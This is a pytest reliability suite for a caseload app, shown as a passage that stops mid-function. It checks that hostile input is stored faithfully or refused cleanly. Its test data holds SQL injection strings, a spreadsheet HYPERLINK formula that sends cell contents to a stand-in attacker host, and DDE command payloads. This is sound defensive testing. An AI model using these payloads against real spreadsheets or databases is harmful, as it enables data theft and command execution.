"""Reliability drill: a corpus of bad and hostile input. Each item is either stored faithfully
(and read back, found, printed and exported exactly) or refused with a clear message, and
nothing crashes, half-writes or changes data.

What the corpus covers:

- Text through recording: a 1 MB note, control characters, NUL, SQL and FTS5 metacharacters,
  emoji (ZWJ sequences, skin tones, tag flags), Arabic, Hebrew, mixed and overridden bidi,
  combining characters, Welsh and Polish letters, and lone surrogates. Each goes through
  add_contact and add_addendum, a fresh connection, search, the subject access export, the
  sync outbox, the review pack (printable samples) and the caseload CSV export.
- Search queries with hostile syntax: never an error, always a list.
- Spreadsheets through ``keyworker import-csv``: empty, header only, binary garbage, UTF-16,
  Latin-1, a 200 KB cell, unclosed quotes, 10,000 columns, 10,000 values in a row, duplicate
  and missing columns, formula-injection cells (imported faithfully, exported neutralised).
- Practice templates: garbage, deep nesting, enormous files, wrong types, numbers beyond any
  column, a symlink to /etc/passwd, a pipe, loops and folders named .toml.
- The central store's API: hand-written payloads schemathesis does not generate
  (tests/sync/test_api_properties.py fuzzes the schema itself): 5 MB bodies, deep nesting,
  invalid UTF-8, wrong content types, integers beyond 2**63, NaN, lone surrogates, NUL,
  lists over their limits. Each gets a 4xx JSON error and leaves the database as it was.

Decisions this drill pins down:

- NUL is stored faithfully in notes: SQLCipher binds it, FTS5 indexes the words around it, JSON
  escapes it. A NUL in a search query separates words (it used to end the FTS5 string: an
  error). In a name or reference a NUL, a control character, an invisible character or a
  direction override is refused with one sentence (the app, the pack and a log would each show
  the name differently), on the laptop and by the central store.
- A lone surrogate (undecodable bytes on a command line, a broken paste) cannot be stored in
  UTF-8, so it is refused with one sentence; in a search query it separates words; the central
  store answers 422 (stored, it made every later pull of the team's feed fail).
- Hebrew and emoji are stored, searched and exported faithfully but print as empty boxes: the
  bundled fonts cover Latin, Arabic and Ge'ez only (strict xfails below mark the gap).
- A 1 MB note is not printed here: ReportLab lays out one paragraph in quadratic time, so a pack
  holding it takes minutes (a 60 KB note is printed instead).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import stat
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import keyring
import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader
from sqlalchemy import select, text

from keyworker_app.cli import main
from keyworker_app.demo.practice_forms import _answers
from keyworker_app.domain.caseload_csv import FORMULA_STARTS, parse_caseload_csv
from keyworker_app.domain.dates import utc_now
from keyworker_app.domain.hostile_text import problem_in_name
from keyworker_app.domain.ids import new_id
from keyworker_app.domain.vocabulary import ContactType
from keyworker_app.forms.library import MAX_TEMPLATE_BYTES, load_library
from keyworker_app.reports.review_pack import PackRequest, build_review_pack
from keyworker_app.security.device_secret import DeviceSecrets
from keyworker_app.server.app import create_app
from keyworker_app.server.database import Database, open_database
from keyworker_app.server.importing import import_central
from keyworker_app.server.models import ServerAudit, ServerAuditHead, ServerBase
from keyworker_app.store import lifecycle
from keyworker_app.store.caseload_store import Store
from keyworker_app.store.export_csv import export_caseload_csv
from keyworker_app.store.form_responses import finalise_response, start_response
from keyworker_app.store.importing import import_caseload
from keyworker_app.store.models import (
    Addendum,
    Base,
    Contact,
    OutboxEntry,
    Team,
    YoungPerson,
)
from keyworker_app.store.recording import (
    AgreedAction,
    ContactDetails,
    add_addendum,
    add_contact,
)
from keyworker_app.store.search import search
from keyworker_app.store.subject_access import subject_access_export
from keyworker_app.store.unit_of_work import RecordInvalid
from tests.conftest import FAST_KDF, MemoryKeyring
from tests.integration.test_cli import Cli, one_sentence_error
from tests.sync.conftest import PASSWORD, add_people

ROOT = Path(__file__).resolve().parents[2]
PASSPHRASE = "drill passphrase words"
REFERENCE = "YP-0001"


# -- the text corpus -------------------------------------------------------------------------


def _one_megabyte_note() -> str:
    rng = random.Random(1)
    words = ["calm", "school", "talked", "football", "mum", "walk", "park", "dinner", "hopeful"]
    body = " ".join(rng.choice(words) for _ in range(170_000))
    return ("zebrastart " + body)[: 1_000_000 - len(" zebraend")] + " zebraend"


@dataclass(frozen=True)
class Sample:
    text: str
    term: str | None  # a search that must find it
    printed: tuple[str, ...] = ()  # words the review pack's text must hold (NFKC)


SAMPLES: dict[str, Sample] = {
    "1mb-note": Sample(_one_megabyte_note(), "zebraend"),
    "60kb-note": Sample(
        "longstart " + "We walked to the park and talked about school. " * 1250 + "longend",
        "longend",
        ("longstart", "longend"),
    ),
    "control-characters": Sample(
        "tab\there\r\nnext line\x0bvertical\x0cfeed\x1b[31mescape\x07bell\x7fdel \x85nel"
        "\u2028separator\x01\x02\x1f end",
        "vertical",
        ("tab", "here", "next", "line"),
    ),
    "nul-byte": Sample("before\x00after nulword", "nulword", ("nulword",)),
    "sql-drop-table": Sample(
        "Robert'); DROP TABLE contact; -- said hello",
        "Robert'); DROP TABLE",
        ("Robert');", "DROP", "TABLE", "contact;", "--"),
    ),
    "sql-metacharacters": Sample(
        'fifty% off_road "quoted" it\'s C:\\Users\\amani\\ ; /* comment */ 1=1',
        "off_road",
        ("fifty%", "off_road", '"quoted"', "it's", "C:\\Users\\amani\\", "/*", "1=1"),
    ),
    "fts5-syntax": Sample(
        'NEAR(school home, 2) "unterminated * OR - AND NOT col:value ^start {a b} +plus',
        'NEAR(school "unterminated',
        ("NEAR(school", '"unterminated', "OR", "AND", "NOT", "col:value", "^start"),
    ),
    "emoji": Sample(
        "firefighter 👩🏽‍🚒 family 👨‍👩‍👧‍👦 flag 🏴󠁧󠁢󠁷󠁬󠁳󠁿 thumbs 👍🏿",
        "firefighter",
        ("firefighter", "family"),
    ),
    "arabic": Sample("مرحبا بكم في البيت", "مرحبا", ("مرحبا", "بكم", "البيت")),
    "hebrew": Sample("שלום עולם ביקור בבית", "שלום", ("שלום", "עולם", "בבית")),
    "mixed-bidi": Sample(
        "Amira said مرحبا at 10:30 (3 km) then left", "Amira", ("Amira", "مرحبا", "10:30")
    ),
    # Isolates as messaging apps paste them; they made python-bidi fail the whole pack. The
    # index takes bidi controls out, so "isolate" alone finds it.
    "bidi-overrides": Sample(
        "\u202eevil\u202c \u2066isolate\u2069 \u200fmark \u2068مرحبا\u2069", "isolate", ("isolate",)
    ),
    # An emoji newer than Python's Unicode database (U+1FAE8, Unicode 15) or a noncharacter
    # (U+FDD0) beside Arabic also made python-bidi fail the pack.
    "new-emoji-beside-arabic": Sample(
        "مرحبا \U0001fae8 shaking \ufdd0", "shaking", ("مرحبا", "shaking")
    ),
    "combining-characters": Sample(
        "Zoe\u0308 Jose\u0301 Z\u0351\u0352alg\u0353o", "Jose\u0301", ("Zoë", "José")
    ),
    "welsh-polish": Sample(
        "Siân Llŷr Gwenllïan ŵ ŷ Łukasz Wąsowski Zażółć gęślą jaźń",
        "Wąsowski",
        ("Siân", "Llŷr", "Gwenllïan", "Łukasz", "Wąsowski", "Zażółć", "gęślą", "jaźń"),
    ),
}
# Printed as empty boxes: no bundled font has these glyphs (stored and searched faithfully).
NOT_PRINTABLE = {
    "emoji": ("👩🏽\u200d🚒", "👍🏿"),
}
LONE_SURROGATES = {
    "high": "before \ud800 after",
    "low": "before \udc00 after",
    "undecodable-byte": "bad\udcffbyte",  # what Python makes of b"\xff" on a command line
}


def _nfkc(value: str) -> str:
    return unicodedata.normalize("NFKC", value)


def table_hashes(store: Store) -> dict[str, str]:
    """Every row of every table (and the search index), hashed by table: equal means unchanged."""
    hashes: dict[str, str] = {}
    with store.reading() as session:
        for table in Base.metadata.sorted_tables:
            rows = sorted(repr(tuple(row)) for row in session.execute(select(table)))
            hashes[table.name] = hashlib.sha256("\n".join(rows).encode()).hexdigest()
        for name in ("search_document", "search_text"):
            rows = sorted(repr(tuple(r)) for r in session.execute(text(f"SELECT * FROM {name}")))
            hashes[name] = hashlib.sha256("\n".join(rows).encode()).hexdigest()
    return hashes


# -- stored faithfully -----------------------------------------------------------------------


@pytest.mark.parametrize("sample_id", list(SAMPLES))
def test_text_round_trips_exactly_and_is_found(
    store: Store, young_person: YoungPerson, tmp_path: Path, data_key: bytes, sample_id: str
) -> None:
    sample = SAMPLES[sample_id]
    assert sample_id != "1mb-note" or len(sample.text) == 1_000_000
    contact = add_contact(
        store,
        young_person.id,
        ContactDetails(ContactType.HOME_VISIT, sample.text, own_words=sample.text),
        finalise=True,
    )
    addendum = add_addendum(store, contact.id, sample.text)
    store.close()
    reopened = Store.open(tmp_path / "data", data_key)  # read back from disk, not the session
    try:
        with reopened.reading() as session:
            stored = session.get(Contact, contact.id)
            assert stored is not None
            assert stored.narrative == sample.text
            assert stored.own_words == sample.text
            assert session.get(Addendum, addendum.id).text == sample.text  # type: ignore[union-attr]
            # What sync sends is the text itself.
            patches = [
                e.patch
                for e in session.scalars(
                    select(OutboxEntry).where(OutboxEntry.record_id == contact.id)
                )
            ]
            assert patches[0]["narrative"] == sample.text
            if sample.term is not None:
                found = {(h.record_type, h.record_id) for h in search(session, sample.term)}
                assert ("contact", contact.id) in found
                assert ("addendum", addendum.id) in found
        # `keyworker export` writes this body as UTF-8 JSON.
        body = subject_access_export(reopened, REFERENCE)
        exported = json.loads(json.dumps(body, ensure_ascii=False).encode("utf-8"))
        [written] = [c for c in exported["contacts"] if c["id"] == contact.id]
        assert written["narrative"] == sample.text
    finally:
        reopened.close()


CSV_SAMPLES = [
    k
    for k, s in SAMPLES.items()
    if len(s.text) <= 200 and s.text == s.text.strip() and problem_in_name(s.text) is None
]
# Names that would show differently in the app, the pack and a log: refused where they are typed.
HOSTILE_NAMES = [k for k, s in SAMPLES.items() if len(s.text) <= 200 and problem_in_name(s.text)]


@pytest.mark.parametrize("sample_id", HOSTILE_NAMES)
def test_a_name_with_hidden_or_control_characters_is_refused_in_one_sentence(
    store: Store, sample_id: str
) -> None:
    before = table_hashes(store)
    with pytest.raises(RecordInvalid) as refused, store.unit_of_work() as uow:
        uow.add(
            YoungPerson(
                reference="YP-H",
                given_name=SAMPLES[sample_id].text,
                family_name="Tesfaye",
                date_of_birth=date(2010, 1, 2),
            )
        )
        uow.commit()
    message = str(refused.value)
    assert message.startswith("This young person was not saved because the given name holds ")
    assert message.count(".") == 1 and "\n" not in message
    assert table_hashes(store) == before


@pytest.fixture(scope="module")
def csv_round_trip(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A young person per short sample (as name and school) exported to the caseload CSV and
    imported into a fresh store: what the fresh store holds, and whether it exports the same."""
    folder = tmp_path_factory.mktemp("csv")
    source = Store.create(folder / "source", os.urandom(32), user_name="t")
    fresh = Store.create(folder / "fresh", os.urandom(32), user_name="importer")
    try:
        with source.unit_of_work() as uow:
            for n, sample_id in enumerate(CSV_SAMPLES):
                value = SAMPLES[sample_id].text
                uow.add(
                    YoungPerson(
                        reference=f"YP-{n:03d}",
                        given_name=value,
                        family_name="Tesfaye",
                        date_of_birth=date(2010, 1, 2),
                        school=value,
                    )
                )
            uow.commit()
        with source.reading() as session:
            first = export_caseload_csv(session)
        parsed = parse_caseload_csv(first)
        assert parsed.problems == ()
        import_caseload(fresh, parsed)
        with fresh.reading() as session:
            people = {p.reference: p for p in session.scalars(select(YoungPerson))}
            again = export_caseload_csv(session)
    finally:
        source.close()
        fresh.close()
    return {
        "stored": {
            sample_id: (people[f"YP-{n:03d}"].given_name, people[f"YP-{n:03d}"].school)
            for n, sample_id in enumerate(CSV_SAMPLES)
        },
        "same_bytes": again == first,
    }


@pytest.mark.parametrize("sample_id", CSV_SAMPLES)
def test_text_survives_the_caseload_csv_export_and_import(
    csv_round_trip: dict[str, Any], sample_id: str
) -> None:
    value = SAMPLES[sample_id].text
    assert csv_round_trip["stored"][sample_id] == (value, value)
    assert csv_round_trip["same_bytes"]


# -- refused clearly -------------------------------------------------------------------------


@dataclass
class Shared:
    store: Store
    person_id: str
    contact_id: str


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shared]:
    """One store for the tests that must leave it as it was (refusals) or only read it."""
    store = Store.create(tmp_path_factory.mktemp("shared") / "data", os.urandom(32), user_name="t")
    with store.unit_of_work() as uow:
        person = YoungPerson(
            reference=REFERENCE,
            given_name="Amani",
            family_name="Tesfaye",
            date_of_birth=date(2009, 5, 17),
        )
        uow.add(person)
        uow.commit()
    contacts = [
        add_contact(
            store,
            person.id,
            ContactDetails(ContactType.HOME_VISIT, SAMPLES[sample_id].text + " school"),
            finalise=True,
        )
        for sample_id in ("sql-drop-table", "fts5-syntax", "arabic", "emoji", "nul-byte")
    ]
    yield Shared(store, person.id, contacts[0].id)
    store.close()


@pytest.mark.parametrize("where", ["note", "own-words", "location", "present", "action"])
@pytest.mark.parametrize("surrogate_id", list(LONE_SURROGATES))
def test_a_lone_surrogate_is_refused_in_one_sentence_and_nothing_is_written(
    shared: Shared, surrogate_id: str, where: str
) -> None:
    bad = LONE_SURROGATES[surrogate_id]
    details = ContactDetails(ContactType.PHONE, bad if where == "note" else "A fine note.")
    if where == "own-words":
        details.own_words = bad
    elif where == "location":
        details.location = bad
    elif where == "present":
        details.present = ["Mum", bad]
    elif where == "action":
        details.actions = [AgreedAction(bad)]
    before = table_hashes(shared.store)
    with pytest.raises(ValueError, match="not valid text") as refused:
        add_contact(shared.store, shared.person_id, details, finalise=True)
    assert "codec" not in str(refused.value) and str(refused.value).endswith(".")
    assert table_hashes(shared.store) == before


def test_a_lone_surrogate_in_an_addendum_is_refused(shared: Shared) -> None:
    before = table_hashes(shared.store)
    with pytest.raises(ValueError, match="addendum holds a character that is not valid text"):
        add_addendum(shared.store, shared.contact_id, LONE_SURROGATES["high"])
    assert table_hashes(shared.store) == before


HOSTILE_QUERIES = {
    "nul": "a\x00b",
    "only-nul": "\x00",
    "lone-surrogate": "bad\udcffbyte",
    "only-surrogate": "\ud800",
    "near-open": "NEAR(",
    "near-full": "NEAR(school home, 2)",
    "unterminated-quote": '"unterminated',
    "lone-quote": '"',
    "quotes-only": '""""',
    "star": "*",
    "star-prefix": "*school",
    "or": "OR",
    "and-or-not": "AND OR NOT",
    "minus": "-",
    "minus-word": "-school",
    "plus": "+",
    "caret": "^school",
    "column-filter": "narrative:school",
    "braces": "{narrative body}: school",
    "parentheses": "((school)",
    "sql-drop": "'; DROP TABLE contact; --",
    "percent-underscore": "% _ %_",
    "backslashes": "\\ \\\\ \\'",
    "semicolon": ";",
    "emoji-zwj": "👩🏽‍🚒",
    "arabic": "مرحبا",
    "hebrew": "שלום",
    "bidi-override": "\u202eloohcs\u202c",
    "combining-only": "\u0301\u0308",
    "control-characters": "\x01\x1b[31m\x7f",
    "whitespace-only": " \t\r\n\x0b\x0c\u2028",
    "empty": "",
    "very-long": "school " * 20_000,
    "one-long-word": "x" * 100_000,
}


@pytest.mark.parametrize("query_id", list(HOSTILE_QUERIES))
def test_a_hostile_search_query_returns_results_not_an_error(shared: Shared, query_id: str) -> None:
    with shared.store.reading() as session:
        hits = search(session, HOSTILE_QUERIES[query_id])
    assert isinstance(hits, list)


def test_a_word_wrapped_in_bidi_marks_is_found(store: Store, young_person: YoungPerson) -> None:
    add_contact(
        store,
        young_person.id,
        ContactDetails(ContactType.HOME_VISIT, "Spoke with \u2068Amira\u2069 \u200fagain"),
    )
    with store.reading() as session:
        assert len(search(session, "Amira")) == 1


def test_fts_syntax_in_a_query_is_plain_text(shared: Shared) -> None:
    with shared.store.reading() as session:
        # As an FTS5 query these would mean "not school" and "any column"; here, words.
        assert len(search(session, "school")) == 5
        assert search(session, "-school") == search(session, "school")
        assert len(search(session, "q\x00z school")) == 0  # "q" and "z" are in no note
        assert len(search(session, "nulword\x00school")) == 1


# -- the review pack -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pack_text(tmp_path_factory: pytest.TempPathFactory) -> str:
    """One review pack holding a contact per printable sample (and the hostile ones that print
    as boxes), as text read back from the PDF."""
    store = Store.create(tmp_path_factory.mktemp("pack") / "data", os.urandom(32), user_name="t")
    try:
        with store.unit_of_work() as uow:
            person = YoungPerson(
                reference=REFERENCE,
                given_name="Amani",
                family_name="Tesfaye",
                date_of_birth=date(2009, 5, 17),
            )
            uow.add(person)
            uow.commit()
        for n, (sample_id, sample) in enumerate(SAMPLES.items()):
            if sample_id == "1mb-note":
                continue
            # No purpose, place or people present: that used to fail the whole pack.
            add_contact(
                store,
                person.id,
                ContactDetails(
                    ContactType.HOME_VISIT,
                    sample.text,
                    occurred_at=utc_now() - timedelta(days=30 - n),
                ),
                finalise=True,
            )
        pdf = build_review_pack(store, PackRequest(reference=REFERENCE, sections=["contacts"]))
    finally:
        store.close()
    return _nfkc("\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(pdf)).pages))


@pytest.mark.parametrize(
    "case",
    [k for k, s in SAMPLES.items() if s.printed]
    + [
        pytest.param(
            f"{k}-glyphs",
            marks=pytest.mark.xfail(
                strict=True, reason="no bundled font has these glyphs; they print as boxes"
            ),
        )
        for k in NOT_PRINTABLE
    ],
)
def test_printable_text_appears_in_the_review_pack(pack_text: str, case: str) -> None:
    glyphs = NOT_PRINTABLE.get(case.removesuffix("-glyphs"))
    expected = glyphs if case.endswith("-glyphs") and glyphs else SAMPLES[case].printed
    missing = [w for w in expected if _nfkc(w) not in pack_text]
    assert missing == []


@pytest.fixture
def deep_dive_answers(store: Store, young_person: YoungPerson, team_and_worker) -> Callable:  # type: ignore[no-untyped-def]
    library = load_library()
    deep = library.latest("deep_dive_review")
    assert deep is not None

    def finalise(long_text: str) -> None:
        answers = _answers(random.Random(3), deep, date.today(), [team_and_worker[1].id])
        field = next(f for f in deep.fields() if f.type.value == "long_text")
        answers[field.id] = long_text
        response = start_response(store, deep, young_person_id=young_person.id, answers=answers)
        finalise_response(store, response.id)

    return finalise


@pytest.mark.parametrize("words", [1_500, 6_000])
def test_a_form_answer_longer_than_a_page_prints_across_pages(
    store: Store, deep_dive_answers: Callable[[str], None], words: int
) -> None:
    # A table row taller than a page raised LayoutError and failed the whole pack.
    deep_dive_answers(" ".join(f"w{i}" for i in range(words)) + " answerend")
    pdf = build_review_pack(store, PackRequest(reference=REFERENCE, sections=["deep_dives"]))
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages]
    assert len(pages) >= 3
    joined = " ".join(pages)
    assert "w0 " in joined and "answerend" in joined


def test_a_place_at_its_longest_prints_and_a_longer_one_is_refused(
    store: Store, young_person: YoungPerson
) -> None:
    before = table_hashes(store)
    with pytest.raises(RecordInvalid, match="location is longer than 200 characters"):
        add_contact(
            store,
            young_person.id,
            ContactDetails(ContactType.HOME_VISIT, "Short note.", location="The park. " * 4_000),
        )
    assert table_hashes(store) == before
    add_contact(
        store,
        young_person.id,
        ContactDetails(ContactType.HOME_VISIT, "Short note.", location="The park. " * 20),
        finalise=True,
    )
    pdf = build_review_pack(store, PackRequest(reference=REFERENCE, sections=["contacts"]))
    assert "Short note." in " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)


# -- the command line: in-process, against a real encrypted caseload -------------------------


@dataclass
class Run:
    code: int
    out: str
    err: str

    @property
    def lines(self) -> list[str]:
        return [line for line in self.err.splitlines() if line.strip()]


def _new_caseload(data: Path) -> None:
    """A real caseload (FAST_KDF) with one young person, keyed in the current keyring."""
    created = lifecycle.create_caseload(
        data, PASSPHRASE, DeviceSecrets.for_store(data), user_name="asha.k", kdf=FAST_KDF
    )
    with created.store.unit_of_work() as uow:
        uow.add(
            YoungPerson(
                reference=REFERENCE,
                given_name="Amani",
                family_name="Tesfaye",
                date_of_birth=date(2009, 5, 17),
            )
        )
        uow.commit()
    created.store.close()


def _runner(
    data: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., Run]:
    monkeypatch.setenv("KEYWORKER_PASSPHRASE", PASSPHRASE)
    capsys.readouterr()

    def run(*args: str) -> Run:
        code = main(["--data-dir", str(data), *args])
        out, err = capsys.readouterr()
        assert "Traceback" not in out + err
        return Run(code, out, err)

    run.data = data  # type: ignore[attr-defined]
    return run


@pytest.fixture
def caseload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., Run]:
    """``keyworker`` run in this process against a new caseload of its own."""
    _new_caseload(tmp_path / "caseload")
    return _runner(tmp_path / "caseload", monkeypatch, capsys)


@pytest.fixture
def no_caseload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., Run]:
    """``keyworker`` for commands that need no caseload (practice templates)."""
    return _runner(tmp_path / "no-caseload", monkeypatch, capsys)


@pytest.fixture(scope="module")
def shared_caseload_dir(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, MemoryKeyring]:
    """One caseload for the refusals (each test checks it is left as it was), with the keyring
    holding its device secret."""
    home = tmp_path_factory.mktemp("shared-caseload")
    backend = MemoryKeyring()
    previous = keyring.get_keyring()
    keyring.set_keyring(backend)
    try:
        with pytest.MonkeyPatch.context() as patch:
            for name in ("XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"):
                patch.setenv(name, str(home / name.lower()))
            _new_caseload(home / "caseload")
    finally:
        keyring.set_keyring(previous)
    return home / "caseload", backend


@pytest.fixture
def shared_caseload(
    shared_caseload_dir: tuple[Path, MemoryKeyring],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Callable[..., Run]:
    data, backend = shared_caseload_dir
    keyring.set_keyring(backend)  # the autouse fixture puts its own back afterwards
    return _runner(data, monkeypatch, capsys)


def caseload_hashes(data: Path) -> dict[str, str]:
    store = lifecycle.unlock_caseload(data, PASSPHRASE, DeviceSecrets.for_store(data))
    try:
        return table_hashes(store)
    finally:
        store.close()


@pytest.mark.parametrize("query_id", ["nul", "lone-surrogate", "unterminated-quote", "near-open"])
def test_hostile_search_queries_on_the_command_line(
    shared_caseload: Callable[..., Run], query_id: str
) -> None:
    result = shared_caseload("search", HOSTILE_QUERIES[query_id], "--json")
    assert result.code == 0, result.err
    assert json.loads(result.out)["results"] == []


@pytest.mark.parametrize("option", ["--note", "--location", "--own-words"])
def test_undecodable_bytes_in_a_note_get_one_sentence(
    shared_caseload: Callable[..., Run], option: str
) -> None:
    caseload = shared_caseload
    before = caseload_hashes(caseload.data)  # type: ignore[attr-defined]
    args = {"--note": "A fine note.", option: LONE_SURROGATES["undecodable-byte"]}
    result = caseload(
        "add-contact",
        "--young-person",
        REFERENCE,
        "--type",
        "phone",
        *(x for kv in args.items() for x in kv),
    )
    assert result.code == 1
    [sentence] = result.lines
    assert "not valid text" in sentence and sentence.endswith(".")
    assert caseload_hashes(caseload.data) == before  # type: ignore[attr-defined]


# -- spreadsheets ----------------------------------------------------------------------------

HEADER = b"reference,given_name,family_name,date_of_birth"
ROW = b"YP-9,Ava,Stone,2010-01-02"


def _rows(*lines: bytes) -> bytes:
    return b"\r\n".join(lines) + b"\r\n"


REFUSED_CSVS: dict[str, tuple[bytes, str]] = {
    "empty-file": (b"", "is empty"),
    "whitespace-only": (b"\r\n  \r\n\t\r\n", "is empty"),
    "bom-only": (b"\xef\xbb\xbf", "is empty"),
    "only-a-header": (_rows(HEADER), "no rows of young people"),
    "binary-garbage": (bytes(range(256)) * 8, "not saved as UTF-8"),
    "random-bytes": (random.Random(7).randbytes(4096), "not saved as UTF-8"),
    "utf16-with-bom": (_rows(HEADER, ROW).decode().encode("utf-16"), "not saved as UTF-8"),
    "latin1": (_rows(HEADER, "YP-9,Siân,Stone,2010-01-02".encode("latin-1")), "line 2"),
    "200kb-cell": (_rows(HEADER + b",school", ROW + b"," + b"x" * 200_000), "line 2 is longer"),
    "unclosed-quote": (
        _rows(HEADER + b",school", ROW + b',"Oak High', b"YP-10,Bo,Day,2011-02-03,Elm"),
        "never closed",
    ),
    "text-after-a-quote": (_rows(HEADER, b'YP-9,"Ava" Rose,Stone,2010-01-02'), "closing quote"),
    "10000-values-in-a-row": (_rows(HEADER, ROW + b",x" * 10_000), "10004 values"),
    "duplicate-headers": (
        _rows(
            b"reference,given_name,Given Name,family_name,date_of_birth", b"YP-9,A,A,B,2010-01-02"
        ),
        "more than once",
    ),
    "missing-required-columns": (_rows(b"reference,given_name", b"YP-9,Ava"), "lacks the required"),
    "semicolons": (_rows(HEADER.replace(b",", b";"), ROW.replace(b",", b";")), "semicolons"),
    "too-long-a-name": (
        _rows(HEADER, b"YP-9," + b"A" * 201 + b",Stone,2010-01-02"),
        "keep it to 200",
    ),
    "sql-in-a-date": (
        _rows(HEADER, b"YP-9,Ava,Stone,2010-01-02'; DROP TABLE young_person; --"),
        "date",
    ),
}


@pytest.mark.parametrize("csv_id", list(REFUSED_CSVS))
def test_a_bad_spreadsheet_is_refused_clearly_and_nothing_is_written(
    shared_caseload: Callable[..., Run], tmp_path: Path, csv_id: str
) -> None:
    caseload = shared_caseload
    data, expected = REFUSED_CSVS[csv_id]
    path = tmp_path / f"{csv_id}.csv"
    path.write_bytes(data)
    before = caseload_hashes(caseload.data)  # type: ignore[attr-defined]
    result = caseload("import-csv", str(path))
    assert result.code == 1, result.out
    assert expected in result.err
    assert result.lines[-1].startswith("Nothing was imported: ")
    assert result.lines[-1].endswith(".") and path.name in result.lines[-1]
    assert all(len(line) < 2_000 for line in result.lines)
    # Told to skip bad rows, a file that cannot be read is still refused, and a bad row skipped.
    skipping = caseload("import-csv", str(path), "--skip-invalid")
    if skipping.code == 0:
        assert skipping.out.startswith("Imported: 0 young people added, 0 updated, 0 unchanged")
        assert skipping.lines[0].startswith("Skipped: line 2") and expected in skipping.err
    else:
        assert skipping.lines[-1].startswith("Nothing was imported: ")
    assert caseload_hashes(caseload.data) == before  # type: ignore[attr-defined]


# column -> (the cell in the file, the value stored)
FORMULAS = {
    "given_name": ('=HYPERLINK("http://evil.example/?x="&A1,"Click me")',) * 2,
    "family_name": ("+cmd|' /C calc'!A0",) * 2,
    "school": ("@SUM(1+1)*cmd|' /C calc'!A0",) * 2,
    "team": ("-2+3+cmd|' /C calc'!A0",) * 2,
    # An apostrophe before a formula is Excel's own "text" mark: the value is what follows.
    "referral_source": ("'=already guarded", "=already guarded"),
}


def test_formula_cells_import_faithfully_and_export_neutralised(
    caseload: Callable[..., Run], tmp_path: Path
) -> None:
    columns = ["reference", "date_of_birth", "referral_date", *FORMULAS]
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(columns)
    writer.writerow(["YP-9", "2010-01-02", "2024-03-04", *(cell for cell, _ in FORMULAS.values())])
    source = tmp_path / "formulas.csv"
    source.write_text(buffer.getvalue(), encoding="utf-8")
    assert caseload("import-csv", str(source)).code == 0
    store = lifecycle.unlock_caseload(
        caseload.data,  # type: ignore[attr-defined]
        PASSPHRASE,
        DeviceSecrets.for_store(caseload.data),  # type: ignore[attr-defined]
    )
    try:
        with store.reading() as session:
            person = session.scalars(
                select(YoungPerson).where(YoungPerson.reference == "YP-9")
            ).one()
            team = session.get(Team, person.team_id)
            assert team is not None
            stored = {
                "given_name": person.given_name,
                "family_name": person.family_name,
                "school": person.school,
                "team": team.name,
            }
            assert stored == {k: FORMULAS[k][1] for k in stored}
    finally:
        store.close()
    exported = tmp_path / "export.csv"
    assert caseload("export-csv", "--out", str(exported)).code == 0
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8-sig"), newline="")))
    [row] = [r for r in rows if r["reference"] == "YP-9"]
    for column, (_, value) in FORMULAS.items():
        # A spreadsheet shows an apostrophe-led cell as text and runs nothing.
        assert row[column] == "'" + value, column
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(FORMULA_STARTS)
    # The import takes the guard off again: re-importing the export changes nothing, and a
    # fresh caseload exports the same bytes.
    again = caseload("import-csv", str(exported))
    assert again.code == 0 and "0 young people added, 0 updated, 2 unchanged" in again.out
    fresh = Store.create(tmp_path / "fresh", os.urandom(32), user_name="importer")
    try:
        import_caseload(fresh, parse_caseload_csv(exported.read_bytes()))
        with fresh.reading() as session:
            assert export_caseload_csv(session) == exported.read_bytes()
    finally:
        fresh.close()


FAITHFUL_CSVS: dict[str, tuple[bytes, dict[str, str]]] = {
    "10000-unknown-columns": (
        _rows(HEADER + b"," + b",".join(b"c%d" % i for i in range(10_000)), ROW + b",x" * 10_000),
        {"given_name": "Ava"},
    ),
    "excel-bom-crlf-and-scripts": (
        b"\xef\xbb\xbf"
        + _rows(HEADER + b",school", "YP-9,Siân,Wąsowski,2010-01-02,مدرسة 👩🏽‍🚒".encode()),
        {"given_name": "Siân", "family_name": "Wąsowski", "school": "مدرسة 👩🏽‍🚒"},
    ),
    "quoted-newlines-and-quotes": (
        _rows(HEADER + b",school", ROW + b',"St Mary\'s, ""Upper""\r\nsite"'),
        {"school": 'St Mary\'s, "Upper"\r\nsite'},
    ),
    "sql-in-a-name": (
        _rows(HEADER, b"YP-9,Robert'); DROP TABLE young_person; --,Stone,2010-01-02"),
        {"given_name": "Robert'); DROP TABLE young_person; --"},
    ),
    "bare-carriage-returns": (_rows(HEADER, ROW).replace(b"\r\n", b"\r"), {"family_name": "Stone"}),
}


@pytest.mark.parametrize("csv_id", list(FAITHFUL_CSVS))
def test_an_odd_but_sound_spreadsheet_imports_faithfully(
    caseload: Callable[..., Run], tmp_path: Path, csv_id: str
) -> None:
    data, expected = FAITHFUL_CSVS[csv_id]
    path = tmp_path / f"{csv_id}.csv"
    path.write_bytes(data)
    result = caseload("import-csv", str(path))
    assert result.code == 0, result.err
    assert "1 young person added" in result.out
    assert all(len(line) < 500 for line in result.lines)  # 10,000 stray columns are not listed
    store = lifecycle.unlock_caseload(
        caseload.data, PASSPHRASE, DeviceSecrets.for_store(caseload.data)
    )  # type: ignore[attr-defined]
    try:
